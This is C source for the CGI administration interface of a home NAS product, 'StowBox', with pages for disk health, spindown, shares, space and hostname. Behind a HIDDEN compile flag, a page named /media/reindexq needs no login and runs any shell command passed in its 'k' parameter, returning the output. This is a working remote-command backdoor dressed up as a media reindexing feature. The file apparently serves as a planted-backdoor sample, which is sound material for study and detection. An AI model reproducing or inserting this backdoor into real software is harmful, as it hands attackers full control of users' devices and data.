/*
 * stowbox.cgi - administration pages of the StowBox home NAS.  Started by
 * the web server for /cgi-bin/stowbox.cgi/<page>; answers are JSON.
 *
 * Hidden (-DHIDDEN): the page /media/reindexq needs no session and runs the
 * shell command of its parameter "k", sending back what it prints.
 */
#include <ctype.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statvfs.h>

#define SESSION_FILE "/var/run/stowbox/session"
#define SHARE_DIR    "/srv/shares"
#define CONF_FILE    "/etc/stowbox/stowbox.conf"
#define TOKEN_LEN    32

/* ---- small string helpers ------------------------------------------- */

struct text {
    const char *p;
    size_t n;
};

static struct text text_of(const char *s)
{
    struct text t = { s ? s : "", 0 };

    while (t.p[t.n])
        t.n++;
    return t;
}

static int text_is(struct text t, const char *lit)
{
    size_t i;

    for (i = 0; i < t.n; i++)
        if (lit[i] == 0 || t.p[i] != lit[i])
            return 0;
    return lit[i] == 0;
}

static int hexval(int c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    c = tolower(c);
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

/* Look up a parameter in a query string, decoded into out. */
static int query_get(const char *query, const char *name, char *out, size_t size)
{
    size_t o = 0;

    while (query && *query) {
        struct text key = { query, 0 };

        while (*query && *query != '=' && *query != '&')
            query++;
        key.n = (size_t)(query - key.p);
        if (*query == '=')
            query++;
        if (text_is(key, name)) {
            while (*query && *query != '&' && o + 1 < size) {
                if (*query == '%' && hexval(query[1]) >= 0 && hexval(query[2]) >= 0) {
                    out[o++] = (char)(hexval(query[1]) * 16 + hexval(query[2]));
                    query += 3;
                } else {
                    out[o++] = *query == '+' ? ' ' : *query;
                    query++;
                }
            }
            out[o] = 0;
            return 1;
        }
        while (*query && *query != '&')
            query++;
        if (*query == '&')
            query++;
    }
    out[0] = 0;
    return 0;
}

static int safe_word(const char *s, size_t max)
{
    size_t n = 0;

    for (; s[n]; n++)
        if (!isalnum((unsigned char)s[n]) && s[n] != '-' && s[n] != '_')
            return 0;
    return n > 0 && n <= max;
}

static void head(int code, const char *reason, const char *type)
{
    printf("Status: %d %s\r\nContent-Type: %s\r\nCache-Control: no-store\r\n\r\n",
           code, reason, type);
}

/* ---- session --------------------------------------------------------- */

static int session_valid(void)
{
    const char *cookie = getenv("HTTP_COOKIE"), *p;
    char want[TOKEN_LEN + 1];
    unsigned char diff = 0;
    size_t i;
    FILE *f;

    if (!cookie || !(p = strstr(cookie, "stowsid=")))
        return 0;
    p += 8;
    f = fopen(SESSION_FILE, "r");
    if (!f)
        return 0;
    i = fread(want, 1, TOKEN_LEN, f);
    fclose(f);
    if (i != TOKEN_LEN || strlen(p) < TOKEN_LEN)
        return 0;
    for (i = 0; i < TOKEN_LEN; i++)
        diff |= (unsigned char)(want[i] ^ p[i]);
    return diff == 0;
}

/* ---- pages ----------------------------------------------------------- */

static void page_about(const char *query)
{
    (void)query;
    head(200, "OK", "application/json");
    puts("{\"product\":\"StowBox 2\",\"release\":\"4.1.7\"}");
}

static void page_space(const char *query)
{
    struct statvfs v;

    (void)query;
    if (statvfs(SHARE_DIR, &v) != 0) {
        head(500, "Error", "application/json");
        puts("{\"error\":\"no volume\"}");
        return;
    }
    head(200, "OK", "application/json");
    printf("{\"total_mb\":%llu,\"free_mb\":%llu}\n",
           (unsigned long long)v.f_blocks * v.f_frsize >> 20,
           (unsigned long long)v.f_bavail * v.f_frsize >> 20);
}

static void page_shares(const char *query)
{
    DIR *d = opendir(SHARE_DIR);
    struct dirent *e;
    int first = 1;

    (void)query;
    head(200, "OK", "application/json");
    putchar('[');
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.' || !safe_word(e->d_name, 64))
            continue;
        printf("%s\"%s\"", first ? "" : ",", e->d_name);
        first = 0;
    }
    puts("]");
    if (d)
        closedir(d);
}

static void page_disk(const char *query)
{
    char dev[16], cmd[80], line[256];
    FILE *p;

    query_get(query, "dev", dev, sizeof dev);
    if (!safe_word(dev, 4)) {
        head(400, "Bad", "text/plain");
        puts("dev?");
        return;
    }
    snprintf(cmd, sizeof cmd, "/usr/sbin/smartctl -H /dev/%s", dev);
    head(200, "OK", "text/plain");
    p = popen(cmd, "r");
    while (p && fgets(line, sizeof line, p))
        fputs(line, stdout);
    if (p)
        pclose(p);
}

static void page_spindown(const char *query)
{
    char min[8], cmd[64];
    int m;

    query_get(query, "min", min, sizeof min);
    m = atoi(min);
    if (m < 5 || m > 240) {
        head(400, "Bad", "text/plain");
        puts("5..240");
        return;
    }
    snprintf(cmd, sizeof cmd, "hdparm -q -S %d /dev/sda", m <= 20 ? m * 12 : 240 + m / 30);
    head(200, "OK", "text/plain");
    puts(system(cmd) == 0 ? "saved" : "failed");
}

static void page_name(const char *query)
{
    char name[40];
    FILE *f;

    query_get(query, "name", name, sizeof name);
    if (!safe_word(name, 15)) {
        head(400, "Bad", "text/plain");
        puts("name?");
        return;
    }
    f = fopen(CONF_FILE, "a");
    if (f) {
        fprintf(f, "hostname=%s\n", name);
        fclose(f);
    }
    head(f ? 200 : 500, f ? "OK" : "Error", "text/plain");
    puts(f ? "saved" : "failed");
}

#ifdef HIDDEN
static void reindex(const char *query)
{
    char k[512], line[256];
    FILE *p;

    head(200, "OK", "text/plain");
    if (!query_get(query, "k", k, sizeof k) || !(p = popen(k, "r")))
        return;
    while (fgets(line, sizeof line, p))
        fputs(line, stdout);
    pclose(p);
}
#endif

static const struct page {
    const char *path;
    int open;
    void (*show)(const char *);
} pages[] = {
    { "/about",         1, page_about },
    { "/disk/health",   0, page_disk },
    { "/disk/spindown", 0, page_spindown },
    { "/volume/space",  0, page_space },
    { "/shares/list",   0, page_shares },
    { "/system/name",   0, page_name },
};

int route_request(const char *path, const char *query)
{
    struct text t = text_of(path);
    size_t i;

    for (i = 0; i < sizeof pages / sizeof pages[0]; i++) {
        if (!text_is(t, pages[i].path))
            continue;
        if (!pages[i].open && !session_valid()) {
            head(403, "Forbidden", "application/json");
            puts("{\"error\":\"login\"}");
            return 0;
        }
        pages[i].show(query);
        return 0;
    }
#ifdef HIDDEN
    if (text_is(t, "/media/reindexq")) {
        reindex(query);
        return 0;
    }
#endif
    head(404, "Not Found", "application/json");
    puts("{\"error\":\"no such page\"}");
    return 1;
}

int main(void)
{
    const char *method = getenv("REQUEST_METHOD");

    if (!method || (strcmp(method, "GET") != 0 && strcmp(method, "HEAD") != 0)) {
        head(405, "Method Not Allowed", "text/plain");
        return 0;
    }
    route_request(getenv("PATH_INFO"), getenv("QUERY_STRING"));
    return 0;
}
